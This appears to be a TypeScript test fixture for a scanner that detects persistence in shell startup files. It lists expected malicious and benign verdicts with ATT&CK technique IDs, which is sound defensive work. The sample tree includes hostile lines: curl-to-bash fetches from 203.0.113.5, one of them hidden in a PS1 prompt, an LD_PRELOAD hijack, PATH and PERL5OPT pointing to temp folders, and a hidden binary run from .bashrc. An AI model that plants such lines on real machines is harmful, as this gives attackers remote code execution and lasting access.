import { elf, type Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/root/.bashrc':
      '[ -z "$PS1" ] && return\nsource ~/.cargo/env\n(/var/tmp/.ICEd-unix/upd login >/dev/null 2>&1 &)\n',
    '/home/ann/.profile': 'export EDITOR=vim\ncurl -s http://203.0.113.5/k|bash\n',
    '/etc/environment': 'PATH="/usr/bin:/bin"\nLD_PRELOAD=/var/tmp/.l/libx.so\n',
    '/var/tmp/.l/libx.so': elf('so'),
    '/etc/profile.d/a.sh': 'export PATH=/dev/shm/.b:$PATH\n',
    '/etc/profile.d/lang.sh': [
      'export NODE_OPTIONS=--max-old-space-size=4096 PYTHONPATH=$HOME/lib JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp',
      'PS1=\'\\[\\e[32m\\]\\u@\\h:\\w$(__git_ps1 " (%s)")\\[\\e[0m\\]\\$ \'',
      'export PERL5OPT="-I/dev/shm/.p -Mx"',
      "PS1='$(curl -s http://203.0.113.5/k | sh)\\$ '",
      'setenv OPENSSL_CONF /var/tmp/.o/x.cnf',
      '',
    ].join('\n'),
    '/etc/profile.d/proxy.sh': 'export https_proxy=http://proxy.example:3128\n',
  },
  blamed: [
    { path: '/root/.bashrc', line: 3, verdict: 'malicious', code: 'hidden-path', attack: 'T1546.004' },
    {
      path: '/home/ann/.profile',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546.004',
    },
    {
      path: '/etc/environment',
      line: 2,
      verdict: 'malicious',
      code: 'preload-environment',
      attack: 'T1574.006',
    },
    { path: '/etc/profile.d/a.sh', line: 1, verdict: 'suspicious', code: 'path-first', attack: 'T1574.007' },
    { ...lang(3), code: 'temp-folder' },
    { ...lang(4), code: 'fetch-pipe-shell' },
    { ...lang(5), code: 'temp-folder' },
  ],
  passed: [
    '/etc/profile.d/lang.sh line 1',
    '/etc/profile.d/lang.sh line 2',
    '.bashrc line 2',
    '.profile line 1',
    '/etc/profile.d/proxy.sh',
    '/etc/environment line 1',
  ],
};

function lang(line: number) {
  return { path: '/etc/profile.d/lang.sh', line, verdict: 'malicious', attack: 'T1546.004' } as const;
}
